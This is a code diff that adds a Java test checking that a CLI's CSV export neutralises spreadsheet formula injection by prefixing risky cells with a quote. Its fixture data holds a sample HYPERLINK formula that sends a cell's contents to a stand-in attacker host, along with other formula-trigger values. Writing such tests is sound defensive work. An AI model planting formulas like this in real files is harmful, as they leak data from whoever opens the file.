@@ -122,6 +122,40 @@ class ExportCliTest {
         assertThat(r.err()).contains("'colour=red' is not a filter term");
     }
 
+    @Test
+    void cellsThatASpreadsheetWouldRunAsAFormulaAreWrittenDefused(@TempDir Path tmp) throws Exception {
+        AppConfig c = TestServers.config();
+        String url = c.jdbcUrl().orElseThrow();
+        List<String> common = List.of("--sqs-endpoint=" + c.sqsEndpoint().orElseThrow(), "--queue=" + c.queue(),
+                "--jdbc-url=" + url, "--data-dir=" + c.dataDir(), "--wait-seconds=0");
+        assertThat(CliTest.run(with("schema", common)).code()).isZero();
+        String link = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
+        Db.execute(url, "INSERT INTO user_logins (user_id, device_type, masked_ip, masked_device_id, locale, "
+                + "app_version, create_date) VALUES "
+                + "('" + link.replace("'", "''") + "', 'ios', 'v1:ip-1', 'v1:dev-1', 'PH', '2.3.0', DATE '2026-11-05'), "
+                + "('u2', '@SUM(1+1)', 'v1:ip-2', 'v2:dev-2', '+1', '-2.3', DATE '2026-11-04'), "
+                + "(E'\\tu3', 'android', 'v1:ip-3', 'v1:dev-3', E'\\rPH', '2.3.0', DATE '2026-11-03'), "
+                + "('u4-=x', 'web', 'v1:ip-4', 'v1:dev-4', 'en-US', '1.0.0', DATE '2026-11-02')");
+
+        Path file = tmp.resolve("all.csv");
+        CliTest.Run r = CliTest.run(with("export", common, "--output", file.toString()));
+        assertThat(r.code()).as(r.err()).isZero();
+
+        List<List<String>> got = new ArrayList<>();
+        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
+            for (CSVRecord rec : CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(in)) {
+                List<String> row = new ArrayList<>();
+                CsvExport.ROW_HEADER.forEach(h -> row.add(rec.get(h)));
+                got.add(row);
+            }
+        }
+        assertThat(got).containsExactly(
+                List.of("'" + link, "ios", "v1:ip-1", "v1:dev-1", "PH", "2.3.0", "2026-11-05"),
+                List.of("u2", "'@SUM(1+1)", "v1:ip-2", "v2:dev-2", "'+1", "'-2.3", "2026-11-04"),
+                List.of("'\tu3", "android", "v1:ip-3", "v1:dev-3", "'\rPH", "2.3.0", "2026-11-03"),
+                List.of("u4-=x", "web", "v1:ip-4", "v1:dev-4", "en-US", "1.0.0", "2026-11-02"));
+    }
+
     private static String[] with(String command, List<String> common, String... more) {
         List<String> all = new ArrayList<>();
         all.add(command);
